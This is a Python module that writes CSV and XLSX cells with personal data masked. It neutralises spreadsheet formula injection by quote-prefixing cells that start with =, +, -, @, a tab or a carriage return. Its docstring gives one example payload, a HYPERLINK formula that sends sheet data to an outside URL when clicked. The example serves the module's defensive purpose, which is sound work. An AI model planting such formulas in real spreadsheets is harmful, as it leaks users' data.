"""Cells of the CSV and XLSX files xfrules writes: personal data masked, nothing a spreadsheet runs.

A spreadsheet program opening a CSV runs a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (and tab or carriage return can smuggle one in): a unit named
``=HYPERLINK("http://…"&A1,"点击")`` would send the sheet's data away when clicked. Every
writer passes its cells through this module (OWASP's CSV-injection guidance):

- a number (``int``, ``Decimal``) is written as it is, sign included: ``-12.50`` is a number;
- in XLSX a figure is a number cell with a number format (:func:`xlsx_number`): summed,
  sorted and filtered in Excel, exact as far as Excel's doubles go (15 significant digits;
  a figure needing more is written as its exact digits, as text);
- text is masked (:func:`xfrules.pii.scrub`) and, when a spreadsheet would run it
  (:func:`would_run`), written with a leading ``'`` in CSV — the spreadsheet shows the text
  and runs nothing — or, in XLSX, typed as a string with Excel's quote prefix, so it is
  never stored as a formula. Text that is just a number (``-12.50``) is left alone.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from datetime import date
from decimal import Decimal
from typing import TYPE_CHECKING, Any, TextIO

from .pii import scrub

if TYPE_CHECKING:
    from openpyxl.cell import WriteOnlyCell  # type: ignore[import-untyped,unused-ignore]

__all__ = ["EXCEL_DIGITS", "CsvWriter", "csv_cell", "would_run", "xlsx_cell", "xlsx_number"]

EXCEL_DIGITS = 15
"""Significant digits an Excel number cell (an IEEE double) holds exactly: any decimal of at
most 15 significant digits reads back as itself. Money below 10^13 元 with cents fits."""

_RUNS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?\Z")


def would_run(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula (or a DDE command): it starts
    with ``= + - @``, a tab or a carriage return, and is not simply a number."""
    return text.startswith(_RUNS) and _NUMBER.match(text) is None


def _text(value: object) -> str | None:
    """A value's cell text, masked; None for a number (kept as it is)."""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | Decimal):
        return None
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, list | tuple):
        return scrub("、".join(str(v) for v in value))
    return scrub(str(value))


def csv_cell(value: object) -> str:
    """``value`` as a CSV cell: a number as it is, text masked and never a formula."""
    if value is None:
        return ""
    text = _text(value)
    if text is None:
        return str(value)
    # csv quotes a field with a line feed but not one with a lone carriage return, which
    # readers take for the end of the row: line breaks are written as line feeds.
    lines = text.replace("\r\n", "\n").replace("\r", "\n")
    return "'" + lines if would_run(text) else lines


class CsvWriter:
    """``csv.writer`` whose every cell goes through :func:`csv_cell`."""

    def __init__(self, stream: TextIO) -> None:
        self._writer = csv.writer(stream, lineterminator="\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([csv_cell(c) for c in row])


def xlsx_cell(sheet: Any, value: object) -> WriteOnlyCell:
    """``value`` as a cell of a write-only openpyxl ``sheet``: an ``int`` a number; text
    (and a ``Decimal``, kept exact as its digits: a spreadsheet float would round money)
    typed as a string, masked, and quote-prefixed when a spreadsheet would run it."""
    from openpyxl.cell import WriteOnlyCell  # type: ignore[import-untyped,unused-ignore]
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE  # type: ignore[import-untyped,unused-ignore]

    if value is None or (isinstance(value, int) and not isinstance(value, bool)):
        return WriteOnlyCell(sheet, value=value)
    text = str(value) if isinstance(value, Decimal) else _text(value)
    assert text is not None
    # Control characters XML cannot hold (openpyxl refuses them) are shown as U+FFFD.
    cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("\ufffd", text))
    cell.data_type = "s"  # openpyxl makes any text starting with = a formula
    if would_run(text):
        cell.quotePrefix = True
    return cell


def xlsx_number(
    sheet: Any, value: int | Decimal, number_format: str | None = None, *, exact: bool = True
) -> WriteOnlyCell:
    """A number cell with ``number_format`` (``#,##0.00`` for 元, ``0.00%`` for a ratio).

    A Decimal of more than :data:`EXCEL_DIGITS` significant digits would be rounded by
    Excel: with ``exact`` (money, counts) it is written as its exact digits in a text cell
    instead; without (a ratio such as 1/3, shown as a percentage) it is rounded to 15 digits.
    """
    from openpyxl.cell import WriteOnlyCell  # type: ignore[import-untyped,unused-ignore]

    if isinstance(value, Decimal):
        digits = len(value.normalize().as_tuple().digits)
        if digits > EXCEL_DIGITS:
            if exact:
                cell = WriteOnlyCell(sheet, value=f"{value:f}")
                cell.data_type = "s"
                return cell
            value = +value.normalize().quantize(
                Decimal(1).scaleb(value.adjusted() - EXCEL_DIGITS + 1)
            )
    cell = WriteOnlyCell(sheet, value=value)
    if number_format:
        cell.number_format = number_format
    return cell
